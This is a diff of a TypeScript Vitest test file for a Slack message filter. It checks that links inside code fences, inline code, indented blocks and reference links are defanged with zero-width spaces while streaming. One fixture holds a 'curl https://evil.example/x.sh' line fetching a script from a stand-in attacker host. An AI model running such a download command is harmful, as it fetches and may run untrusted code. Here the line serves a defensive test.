@@ -1,4 +1,4 @@
-import { describe, expect, it, test } from "vitest";
+import { expect, test } from "vitest";
 import { beginningOf } from "../../../../src/base/markdown-text.ts";
 import { slackWriting } from "../../../../src/platforms/slack/outgoing/create-slack-platform.ts";
 import {
@@ -103,20 +103,18 @@ test("a notification calls those who may be called and nobody else", () => {
   expect(fallbackText("ask <@U0ANNA> and <@U0BEN>", ["U0ANNA"])).toMatch(/^ask <@U0ANNA> and &lt;/);
 });
 
-describe("code in a stream", () => {
-  const code = "See a.example\n```sh\ncurl https://a.example/x.sh\n```\nthen b.example\n";
-  const shown = (pieces: readonly string[]) => {
+test.each([
+  "```x``` https://evil.example/?d=1",
+  "```sh\ncurl https://evil.example/x.sh\n```\n",
+  "`https://evil.example`",
+  "    https://evil.example/indented",
+  "[here][1]\n\n[1]: //evil.example/x",
+  "~~~\nhttps://evil.example\n~~~",
+])("no form of code keeps a link in a stream: %j", (text) => {
+  for (let at = 0; at <= text.length; at += 1) {
     const filter = createPieceFilter();
-    return pieces.map((piece) => filter.push(piece)).join("") + filter.end();
-  };
-
-  it.each([1, 2, 3, 7, 1_000])(
-    "a code block can be copied while it comes in pieces of %i characters",
-    (size) => {
-      const pieces = code.match(new RegExp(`[^]{1,${size}}`, "g")) ?? [];
-      expect(shown(pieces)).toBe(
-        "See a.\u200bexample\n```sh\ncurl https://a.example/x.sh\n```\nthen b.\u200bexample\n",
-      );
-    },
-  );
+    const shown = filter.push(text.slice(0, at)) + filter.push(text.slice(at)) + filter.end();
+    expect(shown).not.toMatch(/:\/\/|\][(:]|\w\.[a-z]{2}/);
+    expect(shown.replaceAll("\u200b", "")).toBe(text);
+  }
 });
